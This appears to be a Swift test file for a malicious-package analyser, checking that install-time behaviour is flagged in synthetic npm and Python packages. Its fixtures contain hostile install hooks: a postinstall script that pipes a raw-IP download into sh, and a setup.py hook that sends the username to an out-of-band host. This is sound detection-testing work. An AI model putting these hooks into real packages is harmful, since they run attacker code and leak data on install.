@@ -1,0 +1,77 @@
+import Foundation
+import LockgateCore
+import Testing
+
+@testable import Analysis
+
+/// The package analyser with the real JavaScript and Python analysers, on small synthetic packages, and over a
+/// sample of the labelled corpus (read in memory through the files the archive tests already check; skipped when
+/// ../shared is absent).
+@Suite struct PackageEndToEndTests {
+    @Test func npmInstallScriptPayloadIsInstallContext() {
+        let files = PackageFixture.files([
+            (
+                "package/package.json",
+                #"{"name": "evil", "version": "1.0.0", "scripts": {"postinstall": "node index.js"}}"#
+            ),
+            (
+                "package/index.js",
+                """
+                const { exec } = require('child_process');
+                const os = require('os');
+                exec('curl -s http://45.9.1.2/p.sh | sh');
+                """
+            ),
+        ])
+        let analysis = PackageAnalyzer().analyse(files: files, ecosystem: nil)
+        let install = analysis.sequence.behaviours.filter { $0.context == .install }.map(\.kind)
+        #expect(install.first == .installHook)
+        #expect(install.contains(.spawnProcess))
+        #expect(install.contains(.urlRawIP))
+        #expect(analysis.sequence.tokenStrings.first == "start:install")
+    }
+
+    @Test func setupPyCmdclassPayloadIsInstallContext() {
+        let setup = """
+            import os
+            from setuptools import setup
+            from setuptools.command.install import install
+
+            class PostInstall(install):
+                def run(self):
+                    os.system("curl https://abc.oast.fun/$(whoami)")
+                    install.run(self)
+
+            setup(name="evil", version="1.0", cmdclass={"install": PostInstall})
+            """
+        let files = PackageFixture.files([
+            ("evil-1.0/PKG-INFO", "Name: evil\nVersion: 1.0\n"), ("evil-1.0/setup.py", setup),
+            ("evil-1.0/evil/__init__.py", "import requests\n"),
+        ])
+        let analysis = PackageAnalyzer().analyse(files: files, ecosystem: nil)
+        let install = analysis.sequence.behaviours.filter { $0.context == .install }
+        #expect(install.filter { $0.kind == .installHook }.map(\.line) == [10, 5])
+        #expect(install.contains { $0.kind == .spawnProcess && $0.line == 7 })
+        #expect(install.contains { $0.kind == .urlOutOfBand })
+        #expect(analysis.sequence.behaviours.contains { $0.kind == .importNetworkModule && $0.context == .runtime })
+    }
+
+    @Test(.enabled(if: CorpusSample.isPresent, "../shared/corpus is absent (only the project's machine has it)"))
+    func corpusSampleAnalysesWithoutTrouble() throws {
+        let sample = try CorpusSample.archives(every: 40)
+        var analysed = 0
+        for (url, ecosystem) in sample {
+            guard let files = CorpusSample.files(url) else { continue }
+            let analysis = PackageAnalyzer().analyse(files: files, ecosystem: ecosystem)
+            #expect(analysis.sequence.features.fileCount == files.count)
+            var depth = 0
+            for token in analysis.sequence.tokens {
+                if case .entryStart = token { depth += 1 }
+                if case .entryEnd = token { depth -= 1 }
+                #expect(depth == 0 || depth == 1)
+            }
+            analysed += 1
+        }
+        #expect(analysed >= sample.count - 1)
+    }
+}
